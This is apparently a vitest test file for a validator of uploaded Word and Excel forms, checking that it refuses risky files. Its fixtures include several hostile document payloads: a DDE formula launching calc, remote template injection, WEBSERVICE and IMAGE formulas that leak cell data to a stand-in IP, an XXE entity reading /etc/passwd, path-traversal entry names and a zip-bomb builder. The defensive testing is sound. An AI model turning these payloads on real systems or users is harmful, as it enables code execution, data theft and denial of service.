import { deflateRawSync } from 'node:zlib'
import { describe, expect, it } from 'vitest'
import { documentParts, pack, workbookParts } from './example'
import { openPackage, writePackage } from './package'

const WORD = documentParts('<w:p><w:r><w:t>{{姓名}}</w:t></w:r></w:p>')
const BOOK = workbookParts({ rows: '<row r="1"><c r="A1" t="inlineStr"><is><t>{{合计}}</t></is></c></row>' })
const codeOf = async (bytes: Uint8Array) => { const opened = await openPackage(bytes); return opened.ok ? 'ok' : opened.problem.code }
const link = (more: string) => `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId9" ${more}/></Relationships>`

describe('a form that was sent', () => {
  it('is opened when it is one', async () => {
    expect(await codeOf(pack(WORD))).toBe('ok')
    expect(await codeOf(pack(BOOK))).toBe('ok')
    expect(await codeOf(pack({ ...documentParts('<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText> PAGE  \\* MERGEFORMAT </w:instrText><w:fldChar w:fldCharType="end"/><w:instrText>HYPERLINK \\l "_Toc1"</w:instrText></w:r><w:fldSimple w:instr=" date "/></w:p>'), 'word/media/image1.png': 'x' }))).toBe('ok')
    expect(await codeOf(pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', '<c r="B1"><f>SUM(A1:A3)&amp;RECALL(1)</f></c></row>') }))).toBe('ok')
  })

  it.each([
    ['nothing', Buffer.alloc(0), 'file-empty'],
    ['text', Buffer.from('姓名,{{姓名}}'), 'form-not-office'],
    ['a zip cut short', pack(WORD).subarray(0, 300), 'form-not-office'],
    ['a zip of something else', pack({ 'a.txt': 'x' }), 'form-not-office'],
    ['an old file', Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1, 0, 0]), 'form-old'],
    ['a locked file', Buffer.concat([Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]), Buffer.from('EncryptedPackage', 'utf16le')]), 'file-password'],
    ['too much', Buffer.alloc(2 * 1024 * 1024 + 1), 'file-too-large'],
    ['macros', pack({ ...WORD, 'word/vbaProject.bin': 'x' }), 'form-macros'],
    ['a workbook for macros', pack({ ...BOOK, '[Content_Types].xml': BOOK['[Content_Types].xml']!.replace('openxmlformats-officedocument.spreadsheetml.sheet.main', 'ms-excel.sheet.macroEnabled.main') }), 'form-macros'],
    ['an object', pack({ ...WORD, 'word/embeddings/oleObject1.bin': 'x' }), 'form-objects'],
    ['a control', pack({ ...BOOK, 'xl/activeX/activeX1.xml': '<a/>' }), 'form-objects'],
    ['a template from elsewhere', pack({ ...WORD, 'word/_rels/settings.xml.rels': link('Type="x/attachedTemplate" Target="http://192.0.2.1/a.dotm" TargetMode="External"') }), 'form-links'],
    ['a link to another workbook', pack({ ...BOOK, 'xl/externalLinks/externalLink1.xml': '<a/>' }), 'form-links'],
    ['a query', pack({ ...BOOK, 'xl/connections.xml': '<a/>' }), 'form-links'],
    ['a formula that fetches', pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', '<c r="B1"><f>WEBSERVICE("http://192.0.2.1")</f></c></row>') }), 'form-links'],
    ['a formula that starts something', pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', "<c r=\"B1\"><f>cmd|'/c calc'!A0</f></c></row>") }), 'form-links'],
    ['a field that fetches', pack(documentParts('<w:p><w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\x </w:instrText></w:r></w:p>')), 'form-links'],
    ['a template from elsewhere, written otherwise', pack({ ...WORD, 'word/_rels/settings.xml.rels': link('Type="x/settings" Target="http://192.0.2.1/a.dotm" TargetMode="&#69;xternal"') }), 'form-links'],
    ['a part taken in whole', pack({ ...WORD, 'word/_rels/document.xml.rels': link('Type="x/aFChunk" Target="a.xml"') }), 'form-links'],
    ['a part of another kind', pack({ ...WORD, 'word/a.rtf': '{\\rtf1}' }), 'form-objects'],
    ...['<w:p><w:r><w:instrText>includepicture "http://192.0.2.1"</w:instrText></w:r></w:p>', '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>PICTURE "http://192.0.2.1"</w:instrText><w:fldChar w:fldCharType="end"/></w:r></w:p>',
      '<w:p><w:r><w:instrText>&#73;NCLUDETEXT x</w:instrText></w:r></w:p>', "<w:p><w:fldSimple w:instr='IMPORT x'/></w:p>", '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DATE </w:instrText><w:fldChar w:fldCharType="begin"/><w:instrText>LINK x</w:instrText></w:r></w:p>', '<w:p><w:r><w:instrText>HYPERLINK "http://192.0.2.1"</w:instrText></w:r></w:p>']
      .map((field): [string, Buffer, string] => [`a field: ${field}`, Buffer.from(pack(documentParts(field))), 'form-links']),
    ...['<f>WEB&#83;ERVICE("http://192.0.2.1")</f>', '<f><![CDATA[WEBSERVICE("http://192.0.2.1")]]></f>', '<f>WEB<!---->SERVICE("http://192.0.2.1")</f>', '<f>_xlfn.IMAGE("http://192.0.2.1/?"&amp;A1)</f>', '<f>HYPERLINK("http://192.0.2.1/?"&amp;A1)</f>']
      .map((formula): [string, Buffer, string] => [`a formula: ${formula}`, Buffer.from(pack({ ...BOOK, 'xl/worksheets/sheet1.xml': BOOK['xl/worksheets/sheet1.xml']!.replace('</row>', `<c r="B1">${formula}</c></row>`) })), 'form-links']),
    ['a name that fetches', pack({ ...BOOK, 'xl/workbook.xml': BOOK['xl/workbook.xml']!.replace('</workbook>', '<definedNames><definedName name="Z">WEBSERVICE("http://192.0.2.1")</definedName></definedNames></workbook>') }), 'form-links'],
    ['a sheet that lies elsewhere', pack({ ...BOOK, 'elsewhere/sheet9.xml': '<worksheet><f>WEBSERVICE("http://192.0.2.1")</f></worksheet>' }), 'form-links'],
    ['a part that is not well-formed', pack({ ...WORD, 'docProps/custom.xml': '<a>' }), 'form-not-office'],
    ['entities', pack({ ...WORD, 'word/document.xml': WORD['word/document.xml']!.replace('<w:document', '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><w:document') }), 'form-entities'],
    ['entities in a part that is not filled', pack({ ...WORD, 'docProps/custom.xml': '<!DOCTYPE a><a/>' }), 'form-entities'],
    ['another encoding', pack({ ...WORD, 'docProps/app.xml': Buffer.from('<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a><a/>', 'utf16le') }), 'form-encoding'],
    ['a name that leads out', pack({ ...WORD, '../../etc/x.xml': '<a/>' }), 'form-not-office'],
    ['an absolute name', pack({ ...WORD, '/etc/x.xml': '<a/>' }), 'form-not-office'],
    ['a name with a backslash', pack({ ...WORD, '..\\x.xml': '<a/>' }), 'form-not-office'],
    ['one name twice', pack({ ...WORD, 'WORD/document.xml': '<a/>' }), 'form-not-office'],
    ['too many parts', pack({ ...WORD, ...Object.fromEntries(Array.from({ length: 600 }, (_, n) => [`a/${n}.txt`, ''])) }), 'file-bomb'],
    ['a bomb', bomb(), 'file-bomb'],
  ])('is refused: %s', async (_, bytes, code) => {
    expect(await codeOf(bytes)).toBe(code)
  })

  it('is refused when a part is locked', async () => {
    const bytes = Buffer.from(pack(WORD))
    for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 1)) bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 1, at + 8)
    expect(await codeOf(bytes)).toBe('file-password')
  })

  it('is written as it was, and always the same', async () => {
    const opened = await openPackage(pack(WORD))
    if (!opened.ok) throw new Error(opened.problem.code)
    const again = await writePackage(opened.data, new Map())
    expect(again.equals(await writePackage(opened.data, new Map()))).toBe(true)
    const back = await openPackage(again)
    expect(back.ok && [...back.data.entries].map(([name, data]) => [name, data.toString()])).toEqual([...opened.data.entries].map(([name, data]) => [name, data.toString()]))
  })
})

/** Thirty megabytes of nothing in one entry, compressed, whatever its header says. */
function bomb(): Buffer {
  const [name, data] = [Buffer.from('a.txt'), deflateRawSync(Buffer.alloc(30 * 1024 * 1024))]
  const common = Buffer.alloc(26)
  common.writeUInt16LE(20, 0)
  common.writeUInt16LE(8, 4)
  common.writeUInt32LE(data.length, 14)
  common.writeUInt32LE(10, 18)
  common.writeUInt16LE(name.length, 22)
  const local = Buffer.concat([Buffer.from('PK\x03\x04'), common, name, data])
  const central = Buffer.concat([Buffer.from('PK\x01\x02\x14\x00'), common, Buffer.alloc(14), name])
  const end = Buffer.alloc(18)
  end.writeUInt16LE(1, 4)
  end.writeUInt16LE(1, 6)
  end.writeUInt32LE(central.length, 8)
  end.writeUInt32LE(local.length, 12)
  return Buffer.concat([local, central, Buffer.from('PK\x05\x06'), end])
}
